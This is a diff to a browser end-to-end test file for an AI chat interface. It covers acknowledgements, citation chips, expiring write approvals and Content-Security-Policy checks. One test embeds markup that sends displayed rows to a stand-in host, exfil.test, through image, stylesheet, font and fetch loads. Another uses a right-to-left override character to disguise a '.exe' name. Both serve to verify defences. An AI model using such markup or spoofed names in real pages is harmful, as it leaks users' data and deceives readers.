@@ -6,6 +6,7 @@
 import assert from 'node:assert/strict';
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { mkdirSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { createRequire } from 'node:module';
 import { join } from 'node:path';
 import test from 'node:test';
@@ -28,6 +29,12 @@ test('ask, stream, tool call, painted surface, resume after reload, two widths',
     // Every request the page makes is answered (issue 26: the favicon request was a 404).
     const missing = [];
     page.on('response', (r) => { if (r.status() >= 400) missing.push(`${r.status()} ${r.url()}`); });
+    // Every acknowledgement the page posts (issue 44: one per state change, never two).
+    const acks = [];
+    page.on('request', (r) => {
+      const m = /\/surfaces\/([^/]+)\/ack$/.exec(new URL(r.url()).pathname);
+      if (m && r.method() === 'POST') acks.push(`${decodeURIComponent(m[1])} ${JSON.parse(r.postData() ?? '{}').state}`);
+    });
     await page.goto(server.base + '/');
     await page.getByRole('button', { name: /New conversation/ }).first().click();
     const box = page.getByRole('textbox', { name: 'Message' });
@@ -53,7 +60,10 @@ test('ask, stream, tool call, painted surface, resume after reload, two widths',
     await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
     const threadId = new URLSearchParams((await page.evaluate(() => location.hash)).slice(1)).get('thread');
     const stored = (await server.json('GET', `/api/threads/${threadId}`)).body.messages[1];
+    const surfaceId = stored.parts.find((p) => p.type === 'data-surface').data.surfaceId;
     assert.equal(stored.parts.find((p) => p.type === 'data-surface').data.state, 'hydrated');
+    await page.waitForTimeout(500);  // anything a re-render would post late
+    assert.deepEqual(acks, [`${surfaceId} painted`, `${surfaceId} hydrated`], 'one acknowledgement per state');
     await page.screenshot({ path: join(shots, 'web-laptop.png') });
 
     // Reload mid-stream: the turn resumes from the server and is shown once.
@@ -207,13 +217,15 @@ test('replay: every end state reads the same in the web UI as at the command lin
 
 // A fresh server on `script` and a laptop-sized page on it; `body(page, server)` runs, then no page
 // error may have happened.
-async function withPage(script, body) {
-  const server = await startServer(binary, script);
+async function withPage(script, body, options = {}) {
+  const server = await startServer(binary, script, [], options);
   const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
   try {
     const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
     const problems = [];
     page.on('pageerror', (e) => problems.push(e.message));
+    // The UI works under its Content-Security-Policy: nothing it does is refused by it.
+    page.on('console', (m) => { if (/Content.Security.Policy/i.test(m.text())) problems.push(m.text()); });
     await body(page, server);
     assert.deepEqual(problems, []);
   } finally {
@@ -229,11 +241,71 @@ test('replay: an Html canvas shows its data filled in, in a sandboxed frame, wit
     await frame.locator('li.ev').first().waitFor({ timeout: 30000 });
     const rows = await frame.locator('li.ev').allInnerTexts();
     assert.ok(rows.includes('Team standup') && rows.includes('Design review'), rows.join(' | '));
+    // Issue 44: {{events.rows.length}} is the number of rows, never an empty string.
+    assert.equal(await frame.locator('p.count').innerText(), `${rows.length} events`);
     const markup = await frame.locator('main').innerHTML();
     assert.doesNotMatch(markup, /\{\{/, 'no placeholder is left');
     assert.equal(await page.locator('.ou-html iframe').getAttribute('sandbox'), '', 'no script, no same origin');
     await page.locator('.ou-html .ou-mount').getByText('Ask me to move any of these.').waitFor({ timeout: 30000 });
 }));
+
+// Issue 43, item 2: a canvas that would send the rows it shows to another host. A listener on
+// loopback, reached as exfil.test through the browser's resolver, must receive nothing: the
+// composed canvas is refused (external-url) and the page's CSP stops markup injected into the
+// UI's own canvas frame and page. The same markup on a page without the policy does reach it (the
+// listener and the markup work).
+test('replay: an Html canvas cannot send what it shows to another host', async () => {
+  const hits = [];
+  const listener = createServer((req, res) => { hits.push(req.url); res.end('x'); });
+  await new Promise((ok) => listener.listen(0, '127.0.0.1', ok));
+  const port = listener.address().port;
+  const server = await startServer(binary, 'canvas_exfil.json');
+  const browser = await chromium.launch({ executablePath, headless: true,
+    args: ['--no-sandbox', '--disable-gpu', `--host-resolver-rules=MAP exfil.test 127.0.0.1:${port}`] });
+  const markup = "<p id='probe'>probe</p><img src='http://exfil.test/img?d=Team%20standup'>" +
+    "<link rel='stylesheet' href='http://exfil.test/css'>" +
+    "<style>@font-face{font-family:x;src:url(http://exfil.test/font)} p{font-family:x;" +
+    "background:url(http://exfil.test/bg)}</style><video src='http://exfil.test/media'></video>";
+  const settle = () => new Promise((ok) => setTimeout(ok, 1500));
+  try {
+    // The control: no policy, and the listener hears the markup.
+    const bare = await browser.newPage();
+    await bare.setContent(markup);
+    await settle();
+    assert.ok(hits.length > 0, 'the listener is reachable as exfil.test without the policy');
+    await bare.close();
+    hits.length = 0;
+
+    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
+    const problems = [];
+    page.on('pageerror', (e) => problems.push(e.message));
+    await ask(page, server, 'What is on this week?');
+    await page.getByText('That canvas was refused; here is your week in words.').waitFor({ timeout: 30000 });
+    assert.equal(await page.locator('.ou-html iframe').count(), 0, 'the refused canvas is not shown');
+    const policy = (await fetch(server.base + '/')).headers.get('content-security-policy');
+    assert.match(policy, /default-src 'self'/);
+    assert.match(policy, /img-src 'self' data:;/);
+    // The policy's second wall: markup in a canvas frame as the UI makes it (sandboxed srcdoc, which
+    // inherits the page's policy), and loads from the UI's page itself.
+    await page.evaluate((html) => {
+      const frame = document.createElement('iframe');
+      frame.setAttribute('sandbox', '');
+      frame.id = 'probe-frame';
+      frame.srcdoc = html;
+      document.body.append(frame);
+      new Image().src = 'http://exfil.test/page-img';
+      fetch('http://exfil.test/page-fetch').catch(() => {});
+    }, markup);
+    await page.frameLocator('#probe-frame').locator('#probe').waitFor({ timeout: 30000 });
+    await settle();
+    assert.deepEqual(hits, [], 'nothing reached the listener');
+    assert.deepEqual(problems, []);
+  } finally {
+    await browser.close();
+    await server.stop();
+    listener.close();
+  }
+});
 
 // Evidence chips: a cited read is a source with its freshness and rows, a citation that names no
 // result is marked invalid, the footer counts the claims; the same after a reload.
@@ -260,6 +332,126 @@ test('replay: citations show as evidence chips, and the same after a reload', ()
     }
     await page.screenshot({ path: join(shots, 'web-citations.png') });
 }));
+
+// Issue 43 item 9: a row "Budget sync \u202Egnp.exe" read as "Budget sync exe.png". Bidi and
+// invisible characters (and C1 controls) show as ⟨U+XXXX⟩ on the card and in the thread title.
+test('replay: bidi overrides and invisible characters show visibly on the card and the title', async () => {
+  const server = await startServer(binary, 'hidden.json', [], { writable: true });
+  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
+  try {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 860 }, timezoneId: 'Europe/Berlin', locale: 'en-US' });
+    const problems = [];
+    page.on('pageerror', (e) => problems.push(e.message));
+    await ask(page, server, 'Add Budget sync \u202Egnp.exe\u2066 please');
+    const write = page.locator('[data-tool="invoke_mutation"]').first();
+    await write.getByRole('button', { name: 'Deny' }).waitFor({ timeout: 30000 });
+    const summary = await write.locator('.effect-summary').innerText();
+    assert.equal(summary, 'Create event “Budget sync ⟨U+202E⟩gnp.exe”');
+    const fields = await write.locator('.effect-fields').innerText();
+    assert.match(fields, /Room⟨U\+200B⟩ 9⟨U\+009B⟩31m/);
+    assert.doesNotMatch(summary + fields, /[\u0080-\u009f\u200b\u202a-\u202e\u2066-\u2069]/);
+    const title = await page.locator('.sidebar .thread-title').first().innerText();
+    assert.match(title, /Add Budget sync ⟨U\+202E⟩gnp\.exe⟨U\+2066⟩ please/);
+    assert.deepEqual(problems, []);
+  } finally {
+    await browser.close();
+    await server.stop();
+  }
+});
+
+// Issues 42 and 44 in the web: a local SQLite source is badged local (never "empty"); a fan-out
+// with one failed detail read is badged partial and names the failed id, the claim citing it is
+// unresolved and the weakest evidence is partial; a limited list says how long it is.
+test('replay: a local source, a partial fan-out and a limited list read as they are', async () => {
+  process.env.FIXTURE_PP_FAIL_IDS = '7';
+  try {
+    await withPage('partial.json', async (page, server) => {
+      await ask(page, server, 'My notes and items?');
+      await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
+      for (const reloaded of [false, true]) {
+        if (reloaded) {
+          await page.reload();
+          await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
+        }
+        const tools = page.locator('[data-tool="RunConnectorCommand"]');
+        assert.equal(await tools.count(), 3);
+        assert.deepEqual(await tools.nth(0).locator('.badge').allInnerTexts(), ['executed', 'local']);
+        assert.deepEqual(await tools.nth(1).locator('.badge').allInnerTexts(), ['executed', 'partial']);
+        assert.equal(await tools.nth(0).locator('.tool-served').count(), 0, 'a whole read needs no note');
+        assert.equal(await tools.nth(1).locator('.tool-served').innerText(), '11 of 12 rows, 1 read failed: get_item id 7');
+        assert.equal(await tools.nth(2).locator('.tool-served').innerText(), '5 of 12 rows, cut by the limit');
+        const local = page.locator('.cite[data-ref="r1"]').first();
+        assert.equal(await local.getAttribute('data-class'), 'source');
+        assert.match(await local.getAttribute('title'), /notes · local · 2 rows/);
+        const partial = page.locator('.cite[data-ref="r2"]').first();
+        assert.equal(await partial.getAttribute('data-class'), 'unresolved');
+        assert.match(await partial.getAttribute('title'), /the read is partial/);
+        const footer = await page.locator('.turn-footer').last().innerText();
+        assert.match(footer, /weakest evidence\s+partial/);
+        assert.match(footer, /1 source/);
+        assert.match(footer, /1 unresolved/);
+        assert.doesNotMatch(await page.locator('.message.assistant').last().innerText(), /\bempty\b/);
+      }
+      await page.screenshot({ path: join(shots, 'web-partial.png') });
+    }, { newcomer: true });
+  } finally {
+    delete process.env.FIXTURE_PP_FAIL_IDS;
+  }
+});
+
+// Issue 42: a staged write whose write grant ends before anyone decides reads expired in the web
+// (no Approve / Deny once it is due), and the next turn tells the model it expired: the call's
+// result, its badge and the claim citing it say so, and nothing ran.
+test('replay: a write whose grant ends before anyone decides reads expired, and the model is told', async () => {
+  const server = await startServer(binary, 'write.json', [], { writable: true, writeExpiresIn: 15 });
+  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
+  try {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
+    const problems = [];
+    page.on('pageerror', (e) => problems.push(e.message));
+    const before = server.calendar();
+    await ask(page, server, 'Put a budget sync on Thursday at 15:00.');
+    const write = page.locator('[data-tool="invoke_mutation"]').first();
+    await write.getByRole('button', { name: 'Approve' }).waitFor({ timeout: 30000 });
+    const threadId = new URLSearchParams((await page.evaluate(() => location.hash)).slice(1)).get('thread');
+    const staged = (await server.json('GET', `/api/threads/${threadId}`)).body.messages[1];
+    const expiresMs = staged.parts.find((p) => p.type === 'data-approval').data.expiresMs;
+    assert.ok(expiresMs - Date.now() < 16000, 'the approval ends with its grant');
+    await page.waitForTimeout(Math.max(0, expiresMs - Date.now()) + 500);
+    await page.reload();
+    await write.locator('[data-expired]').waitFor({ timeout: 30000 });
+    assert.equal(await write.getByRole('button', { name: 'Approve' }).count(), 0, 'nothing left to decide');
+    assert.match(await write.innerText(), /expired/);
+
+    const box = page.getByRole('textbox', { name: 'Message' });
+    await box.fill('Is it in?');
+    await box.press('Enter');
+    await page.getByText(/request expired before anyone decided, so nothing ran/).waitFor({ timeout: 30000 });
+    await page.locator('.turn-footer').nth(1).waitFor({ timeout: 30000 });
+    for (const reloaded of [false, true]) {
+      if (reloaded) {
+        await page.reload();
+        await page.locator('.turn-footer').nth(1).waitFor({ timeout: 30000 });
+      }
+      const card = page.locator('[data-tool="invoke_mutation"]').first();
+      await card.locator('[data-expired]').waitFor({ timeout: 30000 });
+      if (reloaded) {
+        // The stored call now holds what happened: truth expired, and why.
+        await card.locator('.badge', { hasText: 'expired' }).waitFor({ timeout: 30000 });
+        assert.match(await card.locator('[data-expired]').innerText(), /write grant that allowed it ended/);
+      }
+      const chip = page.locator('.message.assistant').last().locator('.cite[data-ref="r3"]').first();
+      assert.equal(await chip.getAttribute('data-class'), 'unresolved');
+      assert.match(await chip.getAttribute('title'), /expired before a person decided/);
+    }
+    assert.equal(server.calendar(), before, 'nothing ran');
+    await page.screenshot({ path: join(shots, 'web-expired.png') });
+    assert.deepEqual(problems, []);
+  } finally {
+    await browser.close();
+    await server.stop();
+  }
+});
 
 test('replay: a staged write shows its effect; denying runs nothing and says so', async () => {
   const server = await startServer(binary, 'write.json', [], { writable: true });
